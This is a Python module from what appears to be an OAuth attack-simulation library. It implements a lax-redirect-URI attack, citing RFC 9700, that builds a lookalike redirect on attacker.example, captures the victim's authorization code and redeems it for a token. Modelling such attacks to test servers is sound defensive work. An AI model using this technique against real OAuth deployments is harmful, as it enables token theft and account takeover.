"""A link to the honest server names an address of the attacker's that looks like the client's."""

from typing import ClassVar
from urllib.parse import urlsplit

from simlib.attacks.base import BROWSER, Inapplicable, OnFlows, Preparation, Thwarted, send
from simlib.attacks.forms import asking, form, own_proof_key, parameters_of, redeem, won
from simlib.scenario.effects import Context, Flow, Reply


def lookalike(redirect_uri: str) -> str:
    """An address at the attacker's host that begins like the client's."""
    parts = urlsplit(redirect_uri)
    if parts.netloc:
        return f"{parts.scheme}://{parts.netloc}.attacker.example{parts.path}"
    return f"{parts.scheme}://attacker.example/callback"


class LaxRedirectUri(OnFlows):
    """PKCE is no help: the attacker asks, so the attacker has the verifier."""

    name: ClassVar[str] = "lax_redirect_uri"
    summary: ClassVar[str] = "the user signs in by a link whose redirect URI only begins like the client's"
    source: ClassVar[str] = "RFC 9700 sections 2.1 and 4.1"

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Have the victim sign in by the link, and redeem what arrives."""
        if not self.loot.redirect_uri:
            yield from ()
            return Inapplicable("this client has no redirect URI")
        own = lookalike(self.loot.redirect_uri)
        verifier, challenge = own_proof_key(ctx)
        answer = yield from send(BROWSER, form(step="authorize", **asking(self.loot, own, challenge)))
        location = answer.body.decode() if isinstance(answer, Reply) and answer.status == 200 else ""
        code = parameters_of(location).get("code", "")
        if not code:
            return Thwarted()
        redeemed = yield from redeem(self.loot, code, own, verifier)
        return won(redeemed, "the token for the code")
